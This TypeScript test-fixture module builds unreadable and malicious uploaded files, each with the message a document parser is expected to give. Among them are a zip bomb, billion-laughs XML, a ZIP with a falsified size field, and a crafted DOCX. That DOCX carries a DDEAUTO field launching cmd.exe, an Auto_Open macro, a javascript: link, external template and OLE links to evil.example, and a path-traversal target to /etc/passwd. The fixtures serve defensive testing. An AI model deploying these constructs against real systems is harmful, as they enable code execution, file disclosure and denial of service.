// Files that people bring along and that can't be read, or not as they are; and some that were made to do harm.
import { docx, docxParts, odt, odtParts, oldOfficeFile, wordParagraph, zipOf } from './document-packages';

const text = (words: string): Uint8Array => new Uint8Array(Buffer.from(words));
const bytes = (latin1: string): Uint8Array => new Uint8Array(Buffer.from(latin1, 'latin1'));
const office = (type: string): Promise<Uint8Array> => docx(wordParagraph('Words'), { type });
const openDocument = (kind: string): Promise<Uint8Array> =>
  zipOf({ ...odtParts('<text:p>Words</text:p>'), mimetype: `application/vnd.oasis.opendocument.${kind}` });
const withDocument = (xml: string): Promise<Uint8Array> => zipOf({ ...docxParts(''), 'word/document.xml': xml });

/** A few kilobytes that unpack to twenty megabytes. */
function bomb(): Promise<Uint8Array> {
  return withDocument(`<w:document>${' '.repeat(20 * 1024 ** 2)}</w:document>`);
}

/** Its list of contents says that the text is ten bytes long. */
async function lyingSize(): Promise<Uint8Array> {
  const whole = Buffer.from(await docx(wordParagraph('Words '.repeat(1000))));
  for (
    let at = whole.indexOf('PK\u0001\u0002', 0, 'latin1');
    at >= 0;
    at = whole.indexOf('PK\u0001\u0002', at + 4, 'latin1')
  ) {
    const name = whole.toString('latin1', at + 46, at + 46 + whole.readUInt16LE(at + 28));
    if (name === 'word/document.xml') whole.writeUInt32LE(10, at + 24);
  }
  return new Uint8Array(whole);
}

/** Two entries of one name: which is read depends on the program. */
async function twice(): Promise<Uint8Array> {
  const whole = Buffer.from(await zipOf({ ...docxParts(wordParagraph('One')), 'word/documenu.xml': 'Two' }));
  return new Uint8Array(
    Buffer.from(whole.toString('latin1').replaceAll('word/documenu.xml', 'word/document.xml'), 'latin1'),
  );
}

const NESTED = `<w:document xmlns:w="w">${'<w:p>'.repeat(5000)}${'</w:p>'.repeat(5000)}</w:document>`;
const LAUGHS = `<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="w">&b;</w:document>`;
const MHTML =
  'From: <Saved by a browser>\r\nSnapshot-Content-Location: https://example.org/\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\r\n<html></html>';
const MAIL = 'From: clerk@example.org\nTo: member@example.org\nSubject: Papers\nMIME-Version: 1.0\n\nSee attached.';

/** Name, what it is, and the one sentence that has to be said. */
export const ODD_DOCUMENTS: readonly (readonly [string, () => Uint8Array | Promise<Uint8Array>, RegExp])[] = [
  ['old.doc', () => oldOfficeFile('WordDocument'), /old Word document \(\.doc\).*save it as \.docx/],
  ['old.xls', () => oldOfficeFile('Workbook'), /is a spreadsheet/],
  ['old.ppt', () => oldOfficeFile('PowerPoint Document'), /is a set of slides/],
  ['mail.msg', () => oldOfficeFile('__properties_version1.0'), /is an e-mail \(\.msg\)/],
  ['locked.docx', () => oldOfficeFile('EncryptedPackage'), /needs a password/],
  ['old.pub', () => oldOfficeFile('Quill'), /old office format/],
  ['plan.rtf', () => text('{\\rtf1\\ansi Plan}'), /Rich Text Format/],
  ['scan.png', () => bytes('\x89PNG\r\n\x1a\n\0\0\0\rIHDR'), /is a picture/],
  ['scan.jpg', () => bytes('\xff\xd8\xff\xe0\0\x10JFIF'), /is a picture/],
  ['phone.heic', () => bytes('\0\0\0\x18ftypheic'), /is a picture/],
  ['logo.svg', () => text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), /is a picture/],
  ['meeting.mp4', () => bytes('\0\0\0\x18ftypisom'), /sound or film/],
  ['pack.gz', () => bytes('\x1f\x8b\x08\0'), /is an archive/],
  ['pack.tar', () => bytes(`${'a'.repeat(257)}ustar`), /is an archive/],
  ['pack.zip', () => zipOf({ 'report.pdf': '%PDF-1.7' }), /is an archive; unpack it/],
  ['nothing.zip', () => bytes(`PK\x05\x06${'\0'.repeat(18)}`), /empty zip/],
  [
    'figures.xlsx',
    () => office('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    /is a spreadsheet/,
  ],
  [
    'talk.pptx',
    () => office('application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'),
    /is a set of slides/,
  ],
  [
    'macros.docm',
    () => office('application/vnd.ms-word.document.macroEnabled.main+xml'),
    /holds macros \(\.docm\).*save it as \.docx/,
  ],
  ['figures.ods', () => openDocument('spreadsheet'), /is a spreadsheet/],
  ['talk.odp', () => openDocument('presentation'), /is a set of slides/],
  ['drawing.odg', () => openDocument('graphics'), /OpenDocument file of another kind/],
  ['book.epub', () => zipOf({ mimetype: 'application/epub+zip' }), /electronic book/],
  ['plan.pages', () => zipOf({ 'Index/Document.iwa': 'x' }), /Pages, Numbers or Keynote/],
  ['plan.fodt', () => text('<?xml version="1.0"?><office:document xmlns:office="x"/>'), /flat OpenDocument.*\.odt/],
  ['plan.xml', () => text('<?xml version="1.0"?><w:wordDocument xmlns:w="x"/>'), /saved as XML; save it as \.docx/],
  ['page.mhtml', () => text(MHTML), /web archive \(MHTML\)/],
  ['page.webarchive', () => bytes('bplist00\xd1\x01\x02'), /web archive of Safari/],
  ['mail.eml', () => text(MAIL), /is an e-mail/],
  ['plan.ps', () => text('%!PS-Adobe-3.0'), /PostScript/],
  ['frames.html', () => text('<html><frameset><frame src="a.html"></frameset></html>'), /page of frames/],
  ['deep.html', () => text(`<html><body>${'<div>'.repeat(3000)}`), /nested too deeply/],
  ['no-text.docx', () => zipOf({ '[Content_Types].xml': docxParts('')['[Content_Types].xml'] ?? '' }), /is damaged/],
  ['cut.docx', async () => (await docx(wordParagraph('Words'))).subarray(0, 700), /is damaged or incomplete/],
  ['broken.docx', () => withDocument('<w:document><w:p></w:document>'), /XML in it is broken/],
  ['laughs.docx', () => withDocument(LAUGHS), /document type/],
  ['nested.docx', () => withDocument(NESTED), /nested too deeply/],
  ['bomb.docx', bomb, /unpacks to far more/],
  ['lying.docx', lyingSize, /damaged|unpacks to far more/],
  ['twice.docx', twice, /two parts of one name|damaged/],
  ['secret.docx', () => zipOf(docxParts(wordParagraph('Words')), { password: 'x' }), /needs a password/],
  [
    'secret.odt',
    () => odt('', '', { 'META-INF/manifest.xml': '<m><manifest:encryption-data/></m>' }),
    /needs a password/,
  ],
  ['no-text.odt', () => zipOf({ mimetype: 'application/vnd.oasis.opendocument.text' }), /is damaged/],
  ['words.docx', () => text('Only words.'), /is not a DOCX, although its name says so/],
  ['junk.bin', () => Uint8Array.from({ length: 4000 }, (_, index) => (index * 7919) % 256), /neither a PDF nor/],
];

const LINK = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A DOCX that names a template, a picture, an object and a page elsewhere, and brings macros and an embedded page along. */
export function harmfulDocx(): Promise<Uint8Array> {
  const external = (id: string, kind: string, target: string): string =>
    `<Relationship Id="${id}" Type="${LINK}/${kind}" Target="${target}" TargetMode="External"/>`;
  const links = [
    external('t', 'attachedTemplate', 'https://evil.example/t.dotm'),
    external('p', 'image', 'https://evil.example/p.png'),
    external('o', 'oleObject', 'file://evil.example/share/o.bin'),
    external('h', 'hyperlink', 'javascript:alert(1)'),
    external('s', 'styles', 'https://evil.example/styles.xml'),
    `<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
    `<Relationship Id="x" Type="${LINK}/aFChunk" Target="chunk.html"/>`,
    `<Relationship Id="up" Type="${LINK}/numbering" Target="../../../../etc/passwd"/>`,
  ].join('');
  const picture =
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="p" r:link="p"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>';
  const object =
    '<w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="p"/></v:shape></w:object></w:r>';
  const field =
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
  const linked = '<w:hyperlink r:id="h" w:anchor="a"><w:r><w:t>linked</w:t></w:r></w:hyperlink>';
  const body = `<w:p><w:r><w:t xml:space="preserve">Words </w:t></w:r>${picture}${object}${field}${linked}</w:p><w:altChunk r:id="x"/>`;
  const parts = {
    'word/vbaProject.bin': 'Auto_Open',
    'word/chunk.html': '<script>alert(2)</script>',
    'customXml/item1.xml': '<x>hidden</x>',
  };
  return docx(body, { links, parts });
}
